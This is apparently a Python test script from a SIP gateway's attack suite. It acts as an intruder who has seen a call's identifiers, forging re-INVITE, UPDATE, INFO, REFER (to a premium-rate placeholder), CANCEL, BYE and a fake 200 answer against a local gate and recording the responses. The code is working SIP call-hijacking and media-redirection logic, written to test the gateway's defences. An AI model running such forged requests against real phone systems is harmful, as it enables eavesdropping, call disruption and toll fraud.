"""Somebody on the network who has seen the ids of a running call, and wants its audio, its keys or its end.

Speaks from an address of its own as one of the parties: re-INVITE that moves the audio, UPDATE, INFO with the key 9,
OPTIONS, REFER, ACK with another SDP, CANCEL, BYE; and answers the gate's own INVITE in the carrier's place.

    echo '[{"call_id": "…", "sender": "…", "to": "…", "uri": "…", "branch": "…"}]' |
        python -m tests.attack.intruder --gate 127.0.0.1:5060 --host 127.0.0.66
    python -m tests.attack.intruder --gate 127.0.0.1:5060 --host 127.0.0.66 --invite seen.txt

``sender`` and ``to`` are From and To as the party writes them. Prints ``codes``: for each dialog what each method got
(0 where no answer came), or ``acked``: whether the gate acknowledged a forged 200.
"""

from __future__ import annotations

import argparse
import json
import sys
from pathlib import Path
from typing import Any

from tests.attack.wire import SDP, Wire, address, code_of

METHODS = ("INVITE", "UPDATE", "INFO", "OPTIONS", "REFER", "ACK", "CANCEL", "BYE")
KEY = "Signal=9\r\nDuration=160\r\n"


def speak(wire: Wire, gate: tuple[str, int], seen: dict[str, Any], method: str) -> int:
    """One request as that party; its code."""
    body, headers = "", ()
    if method in ("INVITE", "UPDATE", "ACK"):
        body = SDP.format(host=wire.host, port=45678)
    elif method == "INFO":
        body = KEY
    elif method == "REFER":
        headers = ("Refer-To: <sip:09012345678@premium.invalid>",)
    text = wire.request(
        method,
        seen["uri"],
        sender=seen["sender"],
        to=seen["to"].partition(";tag=")[0] if method == "CANCEL" else seen["to"],
        call_id=seen["call_id"],
        cseq=seen.get("cseq", 1) if method in ("CANCEL", "ACK") else seen.get("cseq", 1) + 100,
        branch=seen.get("branch", "") if method == "CANCEL" else "",
        headers=headers,
        body=body,
    )
    if method == "INFO":
        text = text.replace("application/sdp", "application/dtmf-relay")
    wire.send(text, gate)
    return 0 if method == "ACK" else code_of(wire.final(2))


def main(argv: list[str]) -> int:
    """Run it; 0."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--gate", type=address, required=True)
    parser.add_argument("--host", default="127.0.0.66", help="the intruder's own address")
    parser.add_argument("--invite", type=Path, help="an INVITE of the gate's, as it was seen: answered with 200")
    options = parser.parse_args(argv)
    told: dict[str, Any] = {}
    if options.invite:
        wire = Wire(options.host)
        invite = options.invite.read_text()
        body = SDP.format(host=wire.host, port=45678)
        wire.send(wire.answer(invite, 200, "OK", tag="intruder", body=body), options.gate)
        told["acked"] = bool(wire.receive(1.5, "ACK"))
    else:
        told["codes"] = [
            {method: speak(Wire(options.host), options.gate, seen, method) for method in METHODS}
            for seen in json.load(sys.stdin)
        ]
    print(json.dumps(told))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
